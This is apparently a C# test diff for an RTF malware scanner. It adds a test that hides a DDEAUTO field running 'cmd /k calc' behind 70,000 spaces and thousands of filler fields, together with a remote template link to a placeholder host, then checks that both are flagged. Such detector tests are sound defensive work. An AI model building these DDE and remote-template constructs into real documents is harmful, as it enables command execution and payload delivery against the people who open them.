@@ -77,4 +77,16 @@ public sealed class RtfStageTests
     [InlineData(900, false)]
     public async Task Groups_nested_on_purpose_are_found(int depth, bool isFound) =>
         (await DocumentScans.FindingsAsync(Encoding.Latin1.GetBytes($"{{\\rtf1 {new string('{', depth)}{new string('}', depth)}}}"))).Contains("rtf.obf").Should().Be(isFound);
+
+    [Fact]
+    public async Task What_stands_behind_thousands_of_fields_and_templates_is_judged()
+    {
+        var fields = string.Concat(Enumerable.Repeat("{\\field{\\*\\fldinst PAGE}}", 12_000));
+        var templates = string.Concat(Enumerable.Repeat("{\\*\\template a.dot}", 200));
+
+        var outcome = await DocumentScans.ScanAsync(Encoding.Latin1.GetBytes($"{{\\rtf1{fields}{templates}{{\\field{{\\*\\fldinst {new string(' ', 70_000)}DDEAUTO cmd /k calc}}}}{{\\*\\template http://host.invalid/t.dotm}}}}"));
+
+        outcome.Findings.Select(finding => finding.Id).Should().Contain(["rtf.dde", "rtf.template"]);
+        outcome.Gaps.Should().BeEmpty();
+    }
 }
